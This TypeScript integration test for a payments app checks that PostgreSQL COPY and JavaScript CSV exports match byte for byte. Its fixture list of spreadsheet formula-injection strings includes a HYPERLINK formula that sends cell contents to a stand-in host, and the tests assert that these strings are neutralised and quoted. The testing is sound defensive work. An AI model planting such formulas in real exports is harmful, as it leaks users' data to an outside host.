import { sql } from "drizzle-orm";
import { rows } from "../../../db/client.server";
import { createPayment } from "../../../app/modules/payments/payments.server";
import { runPayoutEngine } from "../../../app/modules/settlements/engine.server";
import { exportReport } from "../../../app/web/exports/download.server";
import { getOptionalContext } from "../../../app/web/guard.server";
import { REPORTS } from "../../../app/modules/exports/registry.server";
import { as, signIn, type SignedIn } from "../../support/auth";
import { noticeRealServerOnly, useTestDatabase } from "../../support/db";
import { readCsv } from "./helpers";
import { CARD_EXP_YEAR } from "../../support/cards";

/**
 * On PostgreSQL the payments and payout reconciliation exports run as one COPY with every
 * cell rendered by the server (copy.server.ts). The file must be the one the JavaScript
 * path writes for the same request, byte for byte: both demo merchants (IRR in Tehran, USD
 * in New York), every column, major and minor amounts, Excel's byte-order mark, Jalali
 * twins, formula-like and multi-line text, New York's daylight-saving changes.
 * Needs a real server (TEST_DATABASE_URL); on PGlite (always the JavaScript path) it skips.
 */
const t = useTestDatabase({ seed: "demo" });

const NORTHWIND = { merchantId: "mer_northwind" };
const US_CARD = { number: "4242424242424242", expMonth: 12, expYear: CARD_EXP_YEAR, cvc: "123" };

/** Text a spreadsheet would run as a formula, or that CSV must quote (createPayment trims; these are written directly). */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click"), then "more"\nsecond line\r\nthird',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rcarriage",
  "\nnewline first",
  "\uFF1D1+2 full-width equals",
  "\uFF0B\uFF0D\uFF20 full-width",
  " leading and trailing space ",
  'plain, with a comma and a "quote"',
  "\uFEFFstarts with a byte-order mark",
  "'already quoted",
  "",
];

/** New York's clocks: 01:59:59 EST then 03:00:00 EDT (14 March 2021), 01:30 EDT then 01:30 EST (7 November 2021). */
const DST_INSTANTS = ["2021-03-14T06:59:59.999Z", "2021-03-14T07:00:00Z", "2021-11-07T05:30:00.5Z", "2021-11-07T06:30:00Z", "2021-11-07T05:59:59Z"];

let coffee: SignedIn;
let coffeeFa: SignedIn;
let northwind: SignedIn;

async function ctxOf(user: SignedIn) {
  return (await getOptionalContext(as(user, "/reports")))!;
}

async function bytesOf(res: Response): Promise<Buffer> {
  expect(res.status, res.status === 200 ? "" : await res.clone().text()).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function lastRendering(): Promise<{ rendering: string; rows: number; bytes: number; completed: boolean; stopped?: string }> {
  const [e] = await rows<{ details: Record<string, unknown> | string }>(
    t.db,
    sql`select details from audit_events where action = 'export.download' order by id desc limit 1`,
  );
  return (typeof e!.details === "string" ? JSON.parse(e!.details) : e!.details) as never;
}

/** "line 12: ..." where two files first differ, for a readable failure. */
function firstDifference(a: Buffer, b: Buffer): string {
  const la = a.toString("utf8").split("\r\n");
  const lb = b.toString("utf8").split("\r\n");
  for (let i = 0; i < Math.max(la.length, lb.length); i++) {
    if (la[i] !== lb[i]) return `record line ${i}:\n copy: ${JSON.stringify(la[i])}\n   js: ${JSON.stringify(lb[i])}`;
  }
  return "same lines (different line endings?)";
}

/**
 * Downloads `path` through COPY and through the JavaScript path and expects the same
 * bytes, and that COPY really ran; returns the file.
 */
async function sameBothWays(user: SignedIn, path: string, minRecords = 1): Promise<Buffer> {
  const ctx = await ctxOf(user);
  const id = new URL(`http://localhost${path}`).pathname.split("/").pop()!.replace(/\.csv$/, "") as keyof typeof REPORTS;
  const viaCopy = await bytesOf(await exportReport(ctx, id, as(user, path)));
  const audited = await lastRendering();
  const viaJs = await bytesOf(await exportReport(ctx, id, as(user, path), { copy: false }));
  expect(audited.rendering, path).toBe("copy");
  expect((await lastRendering()).rendering).toBe("batches");
  expect(viaCopy.equals(viaJs), `${path}\n${firstDifference(viaCopy, viaJs)}`).toBe(true);
  // The audit counts records by their terminators, not lines: multi-line text is one record.
  const body = viaCopy.toString("utf8").replace(/^\uFEFF/, "");
  const records = readCsv(body).records.length;
  expect(audited.rows).toBe(records);
  expect(audited.bytes).toBe(viaCopy.length);
  expect(audited.completed).toBe(true);
  expect(records, path).toBeGreaterThanOrEqual(minRecords);
  return viaCopy;
}

const allColumns = (id: keyof typeof REPORTS) => REPORTS[id].columns.map((c) => c.key).join(",");

noticeRealServerOnly(t.realServer, "CSV exports as one COPY", "PGlite always renders in JavaScript");

describe.skipIf(!t.realServer)("CSV exports as one COPY, byte for byte the JavaScript path's (real PostgreSQL)", () => {
  beforeAll(async () => {
    coffee = await signIn("owner@coffee.test");
    coffeeFa = await signIn("fa@coffee.test");
    northwind = await signIn("owner@northwind.test");

    // Payments at New York's clock changes, paid out (the engine pays everything available by now).
    for (const [i, at] of DST_INSTANTS.entries()) {
      const r = await createPayment(NORTHWIND, { amount: 1_999n + BigInt(i), currency: "USD", card: US_CARD, description: `DST ${i}`, customerReference: `dst-${i}` }, { terminalId: "term_northwind_web", now: new Date(at) });
      if (!r.ok) throw new Error(JSON.stringify(r));
    }
    await runPayoutEngine({ now: new Date(), merchantIds: [NORTHWIND.merchantId] });

    // Hostile text on payments that are in payouts (so the reconciliation shows them too), in both merchants.
    for (const merchant of ["mer_demo_coffee", "mer_northwind"]) {
      const paid = await rows<{ id: string }>(
        t.db,
        sql`select p.id from payments p
            join ledger_transactions lt on lt.merchant_id = p.merchant_id and lt.source_type = 'payment' and lt.source_id = p.id and lt.category = 'charge'
            join payout_items pi on pi.merchant_id = lt.merchant_id and pi.ledger_transaction_id = lt.id
            where p.merchant_id = ${merchant} order by p.id limit ${HOSTILE.length * 2}`,
      );
      expect(paid.length).toBe(HOSTILE.length * 2);
      for (const [i, text] of HOSTILE.entries()) {
        await t.db.execute(sql`update payments set description = ${text}, customer_reference = ${i % 3 === 0 ? null : text} where merchant_id = ${merchant} and id = ${paid[i]!.id}`);
        // And one whose terminal is gone from the join's point of view: NULL text everywhere it can be.
        await t.db.execute(sql`update payments set description = null, customer_reference = null, card_last4 = null, card_bin = null where merchant_id = ${merchant} and id = ${paid[i + HOSTILE.length]!.id}`);
      }
    }
  }, 120_000);

  const WIDE = "arrival_from=2000-01-01&arrival_to=2100-01-01";

  it("payout reconciliation, every column: Tehran rials and New York dollars, major and minor, Excel and Jalali on and off", async () => {
    for (const user of [coffee, northwind]) {
      for (const opts of ["amounts=major&excel=0&jalali=0", "amounts=minor&excel=1&jalali=1", "amounts=major&excel=1&jalali=1", "amounts=minor&excel=0&jalali=0"]) {
        await sameBothWays(user, `/reports/payout-reconciliation.csv?${WIDE}&columns=${allColumns("payout-reconciliation")}&${opts}`, 100);
      }
    }
  });

  it("payout reconciliation in other time zones, with the default columns, and with the Payouts list's filters", async () => {
    await sameBothWays(coffee, `/reports/payout-reconciliation.csv?${WIDE}&tz=America/New_York&jalali=1`, 100);
    await sameBothWays(northwind, `/reports/payout-reconciliation.csv?${WIDE}&tz=Asia/Tehran&jalali=1&excel=1`, 100);
    await sameBothWays(northwind, `/reports/payout-reconciliation.csv?${WIDE}&tz=UTC`, 100);
    await sameBothWays(coffee, `/reports/payout-reconciliation.csv?${WIDE}&status=paid&columns=payout_id,net,description,payout_status`, 10);
    // The list's own range (arrival dates, both included) instead of arrival_from/arrival_to.
    await sameBothWays(northwind, "/reports/payout-reconciliation.csv?range=all&columns=payout_id,created,net,description", 100);
    const [one] = await rows<{ id: string }>(t.db, sql`select id from payouts where merchant_id = 'mer_northwind' order by item_count desc limit 1`);
    await sameBothWays(northwind, `/reports/payout-reconciliation.csv?payout=${one!.id}&columns=${allColumns("payout-reconciliation")}`, 2);
  });

  it("a Persian reader's defaults (Excel and Jalali on) in Tehran", async () => {
    const file = await sameBothWays(coffeeFa, `/reports/payout-reconciliation.csv?${WIDE}`, 100);
    expect(file.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
  });

  it("payments, every column, each sort, for both merchants", async () => {
    for (const user of [coffee, northwind]) {
      for (const opts of ["amounts=major&excel=0&jalali=0", "amounts=minor&excel=1&jalali=1"]) {
        for (const sort of ["-created", "created", "amount", "-amount"]) {
          await sameBothWays(user, `/reports/payments.csv?range=all&sort=${sort}&columns=${allColumns("payments")}&${opts}`, 100);
        }
      }
    }
    await sameBothWays(northwind, "/reports/payments.csv?range=all&status=captured&tz=Asia/Tehran&jalali=1", 100);
    await sameBothWays(coffee, "/reports/payments.csv?range=all&q=4242&columns=id,amount,card_last4", 0);
  });

  it("refunds, payouts and the audit log (each column defined once, in SQL) run as COPY too, every column", async () => {
    for (const user of [coffee, northwind]) {
      for (const opts of ["amounts=major&excel=0&jalali=0", "amounts=minor&excel=1&jalali=1"]) {
        await sameBothWays(user, `/reports/refunds.csv?range=all&columns=${allColumns("refunds")}&${opts}`, 10);
        await sameBothWays(user, `/reports/payouts.csv?range=all&columns=${allColumns("payouts")}&${opts}`, 10);
        // Sign-ins only: each download adds an export.download event between the two files.
        await sameBothWays(user, `/reports/audit-log.csv?action=auth.login&columns=${allColumns("audit-log")}&${opts}`, 1);
      }
    }
  });

  it("hostile text is neutralised and quoted, and New York's clock changes read as the JavaScript formatter reads them", async () => {
    const file = await sameBothWays(northwind, `/reports/payments.csv?from=2021-03-13&to=2021-11-08&tz=America/New_York&columns=id,created,created_utc,captured,description`, DST_INSTANTS.length);
    const { records } = readCsv(file.toString("utf8"));
    expect(records.map((r) => [r["created (America/New_York)"], r.created_utc])).toEqual([
      ["2021-11-07 01:30:00", "2021-11-07 06:30:00"],
      ["2021-11-07 01:59:59", "2021-11-07 05:59:59"],
      ["2021-11-07 01:30:00", "2021-11-07 05:30:00"],
      ["2021-03-14 03:00:00", "2021-03-14 07:00:00"],
      ["2021-03-14 01:59:59", "2021-03-14 06:59:59"],
    ]);

    const recon = await sameBothWays(northwind, `/reports/payout-reconciliation.csv?${WIDE}&columns=balance_transaction_id,description,customer_reference,net`, 100);
    const descriptions = readCsv(recon.toString("utf8")).records.map((r) => r.description);
    expect(descriptions).toContain(`'${HOSTILE[0]}`);
    expect(descriptions).toContain("'\uFF1D1+2 full-width equals");
    expect(descriptions).toContain("'\tTabbed");
    expect(descriptions).toContain(" leading and trailing space ");
    // A record holding CR and LF in a quoted field still ends in CRLF, and only there.
    expect(recon.toString("utf8")).toContain('"\'=HYPERLINK(""http://evil.test/?x=""&A1,""Click""), then ""more""\nsecond line\r\nthird"');
  });
});
